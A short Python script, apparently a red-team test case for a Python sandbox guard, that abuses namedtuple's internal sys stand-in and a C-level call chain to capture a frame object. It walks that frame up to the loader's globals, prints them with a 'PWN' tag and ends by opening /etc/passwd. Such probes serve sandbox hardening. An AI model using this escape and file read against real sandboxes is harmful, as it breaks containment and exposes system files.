# red team: sys._getframe reached through namedtuple's stand-in of sys and called from a C chain while namedtuple's frame is innermost
# guard: open
import collections, itertools, functools
real_getframe = collections._sys._getframe      # the stand-in's: no frame taker
store = []
collections._sys._getframe = functools.partial(next, map(store.append, map(real_getframe, itertools.repeat(0))))
collections.namedtuple('P', 'a b')
collections._sys._getframe = real_getframe
f = store[0] if store else None
if type(f).__name__ == 'frame':
    while f.f_back is not None:
        f = f.f_back
    print('PWN loader globals', sorted(f.f_globals))
assert not hasattr(f, 'f_back') and not hasattr(real_getframe(0), 'f_code')
print(real_getframe(0).f_globals['__name__'])
open("/etc/passwd")
